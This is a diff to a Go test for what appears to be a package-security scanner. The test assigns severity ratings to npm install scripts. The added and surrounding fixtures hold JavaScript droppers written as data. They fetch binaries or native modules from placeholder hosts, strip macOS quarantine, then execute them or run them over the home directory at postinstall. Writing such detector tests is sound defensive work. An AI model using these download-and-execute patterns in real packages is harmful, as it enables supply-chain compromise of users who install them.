@@ -23,6 +23,16 @@ func TestDownloadExecute(t *testing.T) {
 			"i.js": `const fs=require("fs"),https=require("https"),{execSync}=require("child_process"); https.get("https://x.example.invalid/bin/helper", r => { const o = fs.createWriteStream("/tmp/.h"); r.pipe(o); o.on("finish", () => { execSync("xattr -d com.apple.quarantine /tmp/.h"); execSync("chmod +x /tmp/.h"); execSync("/tmp/.h") }) })`}, finding.SeverityCritical},
 		{"strips_quarantine_trusted", map[string]string{"index.js": `const fs=require("fs"),https=require("https"),{execSync}=require("child_process"); https.get("https://github.com/o/r/releases/download/v1/tool-darwin.tar.gz", r => r.pipe(fs.createWriteStream(p))); execSync("xattr -cr " + app); execSync(app)`}, finding.SeverityLow},
 		{"raw_ip_temp_exe", map[string]string{"postinstall.js": dropper}, finding.SeverityCritical},
+		// a native module named by the constant end of a template URL
+		{"template_node_module", map[string]string{"index.js": "const fs=require(\"fs\"),os=require(\"os\"),https=require(\"https\"); const dest = require(\"path\").join(os.tmpdir(), \"x.node\");\n" +
+			"https.get(`https://prebuilds.example.invalid/v2/${process.platform}-${process.arch}.node`, r => { const w = fs.createWriteStream(dest); r.pipe(w); w.on(\"finish\", () => process.dlopen(m, dest)) })"}, finding.SeverityCritical},
+		// a scanner fetched at install and run over the home directory
+		{"scanner_over_home_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": "const {execFileSync}=require(\"child_process\"),fs=require(\"fs\"),os=require(\"os\"); (async () => { fs.writeFileSync(\"/tmp/t.tgz\", Buffer.from(await (await fetch(`https://dl.example.invalid/th_${process.platform}.tar.gz`)).arrayBuffer()));\n" +
+				"execFileSync(\"tar\", [\"-xzf\", \"/tmp/t.tgz\", \"-C\", \"/tmp\"]); fs.chmodSync(\"/tmp/th\", 0o755); execFileSync(\"/tmp/th\", [\"filesystem\", os.homedir(), \"--json\"]) })()"}, finding.SeverityCritical},
+		// an engine installer checks the binary it fetched runs
+		{"engine_version_check", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": "const {execFileSync}=require(\"child_process\"),fs=require(\"fs\"); (async () => { fs.writeFileSync(bin, Buffer.from(await (await fetch(`https://binaries.engines.example.invalid/${hash}/${platform}/engine.gz`)).arrayBuffer())); fs.chmodSync(bin, 0o755); execFileSync(bin, [\"--version\"]) })()"}, finding.SeverityMedium},
 		{"native_module_loaded", map[string]string{"index.js": `const https = require("https"), fs = require("fs");
 https.get("https://dl.example.invalid/a.node", r => r.pipe(fs.createWriteStream("/tmp/a.node")).on("finish", () => process.dlopen({ exports: {} }, "/tmp/a.node")))`}, finding.SeverityCritical},
 		{"registry_binary", map[string]string{"install.js": binaryInstaller, "package.json": rt.Pkg(`"scripts":{"postinstall":"node install.js"}`)}, finding.SeverityLow},
